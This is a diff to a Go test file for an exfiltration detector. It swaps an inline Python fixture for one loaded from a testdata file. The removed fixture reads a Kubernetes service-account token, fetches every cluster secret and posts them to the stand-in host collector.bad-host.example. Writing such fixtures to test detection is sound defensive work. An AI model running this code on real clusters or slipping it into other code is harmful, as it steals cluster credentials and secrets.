@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"os"
 	"slices"
 	"strings"
 	"testing"
@@ -156,20 +157,11 @@ func messages(fs []Finding) []string {
 // sendHost round a cycle until the stack ran out — a fatal error no
 // recover catches. It must end, with the send attributed.
 func TestSendHostCycle(t *testing.T) {
-	src := `import json, os, urllib.request
-SA = "/var/run/secrets/kubernetes.io/serviceaccount"
-class Cluster:
-    def __init__(self):
-        self.token = open(os.path.join(SA, "token")).read().strip()
-        self.api = "https://%s" % os.environ.get("KUBERNETES_SERVICE_HOST", "kubernetes.default.svc")
-    def get(self, path):
-        req = urllib.request.Request(self.api + path, headers={"Authorization": "Bearer " + self.token})
-        return json.load(urllib.request.urlopen(req))
-c = Cluster()
-loot = {"secrets": c.get("/api/v1/secrets")}
-urllib.request.urlopen("http://collector.bad-host.example/k", data=json.dumps(loot).encode())
-`
-	fs := runOne(t, byID(t, "exfil-sink"), []byte(src))
+	src, err := os.ReadFile("../testdata/regress/request_cycle.py") // also a FuzzAnalyze seed
+	if err != nil {
+		t.Fatal(err)
+	}
+	fs := runOne(t, byID(t, "exfil-sink"), src)
 	if len(fs) == 0 || len(fs[0].Techniques) == 0 {
 		t.Fatalf("exfil-sink findings %v", messages(fs))
 	}
